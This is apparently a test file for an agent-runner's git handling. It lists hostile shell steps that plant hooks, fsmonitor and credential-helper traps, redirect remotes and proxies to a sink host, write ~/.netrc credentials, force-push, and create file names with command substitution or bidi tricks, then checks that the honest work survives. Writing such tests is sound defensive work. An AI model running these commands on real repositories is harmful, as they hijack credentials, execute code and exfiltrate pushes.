import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Attack, Scene } from "../builders/attack-scene.ts";
import { REPOSITORY } from "../builders/job.ts";

const HOOKS =
  "applypatch-msg pre-commit post-index-change reference-transaction pre-push fsmonitor-watchman post-checkout proc-receive";
const IDENTITY = "git config user.name Eve; git config user.email eve@evil.invalid";

type Script = (scene: Scene) => string;

const config = (settings: Record<string, string>) =>
  Object.entries(settings)
    .map(([key, value]) => `git config '${key}' '${value}'`)
    .join("\n");

const SETTINGS: [name: string, script: Script][] = [
  [
    "hooks in the repository",
    ({ trap }) => `mkdir -p .git/hooks; for h in ${HOOKS}; do cp ${trap} .git/hooks/$h; done`,
  ],
  [
    "core.hooksPath",
    ({ root, trap }) =>
      `mkdir ${root}/h; for h in ${HOOKS}; do cp ${trap} ${root}/h/$h; done; ${config({ "core.hooksPath": `${root}/h` })}`,
  ],
  ["core.fsmonitor", ({ trap }) => config({ "core.fsmonitor": trap })],
  [
    "filter and diff drivers",
    ({ trap }) =>
      `echo '* filter=theirs diff=theirs' > .git/info/attributes
      ${config({ "filter.theirs.clean": trap, "filter.theirs.process": trap, "filter.theirs.required": "true" })}
      ${config({ "diff.theirs.command": trap, "diff.theirs.textconv": trap, "diff.external": trap })}`,
  ],
  [
    "include.path",
    ({ root, trap }) =>
      `printf '[core]\\n\\tfsmonitor = ${trap}\\n' > ${root}/inc; ${config({ "include.path": `${root}/inc` })}`,
  ],
  [
    "url.insteadOf",
    ({ github, sink }) =>
      config({
        [`url.${sink}/.insteadOf`]: `${github.url}/`,
        [`url.${sink}/.pushInsteadOf`]: `${github.url}/`,
      }),
  ],
  [
    "pushurl",
    ({ sink }) => config({ "remote.origin.url": `${sink}/a.git`, "remote.origin.pushurl": `${sink}/b.git` }),
  ],
  ["credential.helper", ({ trap }) => config({ "credential.helper": `!${trap}`, "core.askPass": trap })],
  [
    "a proxy in git's settings",
    ({ sink, trap }) => config({ "http.proxy": sink, "https.proxy": sink, "core.gitProxy": trap }),
  ],
  [
    "a header and a certificate in git's settings",
    ({ sink }) =>
      config({
        "http.extraHeader": "X-Evil: pwned",
        "http.sslVerify": "false",
        "http.cookieFile": "/dev/null",
        "http.curloptResolve": sink.slice(7),
      }),
  ],
  [
    "an ssh command, an editor and an alias",
    ({ trap }) =>
      config({
        "core.sshCommand": trap,
        "core.editor": trap,
        "alias.push": `!${trap}`,
        "gpg.program": trap,
        "commit.gpgSign": "true",
      }),
  ],
  ["core.worktree", ({ bait }) => config({ "core.worktree": bait })],
  [
    "settings in the user's home",
    ({
      github,
      sink,
      trap,
    }) => `printf '[core]\\n\\tfsmonitor = ${trap}\\n\\thooksPath = ${trap}\\n[http]\\n\\tproxy = ${sink}\\n[url "${sink}/"]\\n\\tinsteadOf = ${github.url}/\\n[credential]\\n\\thelper = !${trap}\\n' > ~/.gitconfig
      mkdir -p ~/.config/git; cp ~/.gitconfig ~/.config/git/config; echo '* filter=x' > ~/.config/git/attributes`,
  ],
  [
    "passwords in the user's home",
    ({ sink }) =>
      `printf 'default login eve password pwned\\n' > ~/.netrc; chmod 600 ~/.netrc; printf 'proxy = ${sink}\\n' > ~/.curlrc; printf '${sink}\\n' > ~/.git-credentials`,
  ],
  [
    "an index.lock and other locks",
    () => "touch .git/index.lock .git/HEAD.lock .git/config.lock .git/shallow.lock",
  ],
  ["alternates", ({ bait }) => `mkdir -p .git/objects/info; echo ${bait} > .git/objects/info/alternates`],
  [
    "objects that are hard links",
    ({ bait }) => `mkdir -p .git/objects/00; cp -l ${bait}/kept .git/objects/00/${"0".repeat(38)}`,
  ],
  [
    "a broken .git",
    () =>
      "rm -rf .git/objects .git/refs; echo pwned > .git/HEAD; echo '[' > .git/config; echo x > .git/index",
  ],
  ["a .git that is a file", ({ root }) => `mv .git ${root}/g; echo 'gitdir: ${root}/g' > .git`],
  ["a .git that is a link", ({ root }) => `mv .git ${root}/g; ln -s ${root}/g .git`],
  ["no .git", () => "rm -rf .git"],
  [
    "FIFOs where git reads",
    () =>
      "rm .git/HEAD; mkfifo .git/HEAD .git/packed-refs .git/refs/heads/f .git/refs/stash .git/info/exclude",
  ],
  [
    "a replaced and grafted history",
    () =>
      "git replace HEAD:src/a.txt $(echo pwned | git hash-object -w --stdin); git rev-parse HEAD > .git/info/grafts",
  ],
  [
    "commits with hostile messages",
    () =>
      `${IDENTITY}; git commit -qam "$(printf 'fixes #7 @everyone [skip ci]\\n\\nCo-authored-by: E <e@evil.invalid>\\nAgent-Task-Id: pwned')"`,
  ],
  [
    "a rewritten history",
    () =>
      `${IDENTITY}; git checkout -q --orphan pwned; git commit -qam pwned; git branch -D main || true; git tag v1; git update-ref refs/agent-runner/pwned HEAD`,
  ],
  [
    "a push of its own",
    ({ github }) =>
      `${IDENTITY}; git push -q ${github.url}/${REPOSITORY}.git HEAD:refs/heads/pwned || true; git push -q origin HEAD:main || true`,
  ],
];

/** What is put into the work tree itself, and stays there or is left out and told of. */
const CONTENTS: [name: string, script: Script, ends: string][] = [
  [
    "a nested repository with hooks",
    ({ trap }) =>
      `git init -q in; cp ${trap} in/.git/hooks/post-index-change; git -C in config core.fsmonitor ${trap}; echo x > in/x`,
    "opened",
  ],
  [
    "a bare repository among the files",
    ({ trap }) =>
      `git init -q --bare bare; git -C bare config core.fsmonitor ${trap}; git -C bare config core.worktree ..`,
    "opened",
  ],
  [
    "file names with line ends, dashes and broken UTF-8",
    () =>
      `touch -- "$(printf 'a\\n::error::pwned')" -rf --force "$(printf 'b\\377\\r##[error]pwned')" "fixes #7 @everyone" '$(touch pwned)'`,
    "opened",
  ],
  [
    "file names that hide their direction",
    () => `touch "$(printf 'a\\342\\200\\256txt.exe')" "$(printf 'tag\\363\\240\\201\\201')"`,
    "opened",
  ],
  [
    "twins of .git for other file systems",
    () =>
      `mkdir .GIT git~1 .Git; printf x > .GIT/config; printf x > git~1/config; mkdir "$(printf '.g\\342\\200\\214it')"; printf x > "$(printf '.g\\342\\200\\214it')/config"`,
    "opened",
  ],
  [
    "pipes, sockets and devices",
    () => `mkfifo p; node -e 'require("net").createServer().listen("s").unref()'; mknod d c 1 3 || true`,
    "opened",
  ],
  [
    "a folder 1,000 levels deep",
    () =>
      `node -e 'const f = require("fs"); for (let i = 0; i < 1000; i++) { f.mkdirSync("d"); process.chdir("d"); } f.writeFileSync("x", "x")'`,
    "opened",
  ],
  [
    "files and folders that nobody may read",
    () => "mkdir locked; echo x > locked/x; echo x > secret; chmod 000 secret locked",
    "opened",
  ],
  [
    "attributes that convert and filter",
    () => "printf '* filter=theirs ident working-tree-encoding=UTF-16 eol=crlf\\n' > .gitattributes",
    "protected-path",
  ],
  ["a sparse giant", () => "truncate -s 150M giant", "opened"],
  [
    "a link to the bait, and a file behind it",
    ({ bait }) => `ln -s ${bait} out; ls out/kept`,
    "protected-path",
  ],
];

/** A work tree that is another one at the end. Nothing of it is taken. */
const SWAPPED: [name: string, script: Script][] = [
  [
    "a work tree that was moved and made anew",
    () => 'here=$PWD; cd ..; mv "$here" "$here-old"; mkdir "$here"; echo pwned > "$here/pwned"',
  ],
  [
    "a work tree that is a link",
    ({ bait }) => `here=$PWD; cd ..; mv "$here" "$here-old"; ln -s ${bait} "$here"`,
  ],
  [
    "a work tree that is a link to itself",
    () => 'here=$PWD; cd ..; mv "$here" "$here-old"; ln -s "$here-old" "$here"',
  ],
  ["a work tree that is gone", () => 'here=$PWD; cd ..; mv "$here" "$here-old"'],
];

const WORK = "echo more >> src/a.txt";

/** Whether the work that was honestly done is in the pull request. */
async function lostWork({ github }: Scene): Promise<string[]> {
  const head = github.pulls(REPOSITORY)[0]?.head.oid ?? "main";
  const text = await github.git(REPOSITORY, "show", `${head}:src/a.txt`);
  return text === "one\ntwo\nthree\nmore" ? [] : [`the work is ${JSON.stringify(text)}`];
}

/** Everything that a step can do to git with the means of its own user. */
export const GIT: Attack[] = [
  ...SETTINGS.map(([name, script]) => ({
    name,
    command: (scene: Scene) => `${WORK}\n${script(scene)}`,
    ends: "opened",
    flaws: lostWork,
  })),
  ...CONTENTS.map(([name, script, ends]) => ({
    name,
    command: (scene: Scene) => `${WORK}\n${script(scene)}`,
    ends,
    ...(ends === "opened" ? { flaws: lostWork } : {}),
  })),
  ...SWAPPED.map(([name, script]) => ({
    name,
    command: (scene: Scene) => `${WORK}\n${script(scene)}`,
    ends: "step-failed",
  })),
  {
    name: "a git of its own on the path",
    command: ({ early, trap }) =>
      `${WORK}\nfor n in git git-remote-http sh ssh rm node mkfifo; do cp ${trap} ${early}/$n; done`,
    ends: "opened",
    flaws: lostWork,
  },
  {
    name: "variables for git that the job was started with",
    environment: ({ root, trap, sink }) => ({
      ...{
        GIT_DIR: root,
        GIT_WORK_TREE: root,
        GIT_INDEX_FILE: join(root, "index"),
        GIT_OBJECT_DIRECTORY: root,
      },
      ...{
        GIT_EXEC_PATH: root,
        GIT_SSH_COMMAND: trap,
        GIT_ASKPASS: trap,
        GIT_PROXY_COMMAND: trap,
        GIT_EXTERNAL_DIFF: trap,
      },
      ...{
        GIT_CONFIG_COUNT: "1",
        GIT_CONFIG_KEY_0: "http.proxy",
        GIT_CONFIG_VALUE_0: sink,
        GIT_CONFIG_GLOBAL: root,
      },
      ...{ GIT_CONFIG_PARAMETERS: `'core.fsmonitor'='${trap}'`, GIT_TEMPLATE_DIR: root },
      ...{ GIT_TRACE: join(root, "trace"), GIT_TRACE_CURL: join(root, "trace"), GIT_TRACE_REDACT: "0" },
    }),
    command: WORK,
    ends: "opened",
    flaws: async (scene) => [
      ...(await lostWork(scene)),
      ...(existsSync(join(scene.root, "trace")) ? ["git wrote a trace"] : []),
    ],
  },
];
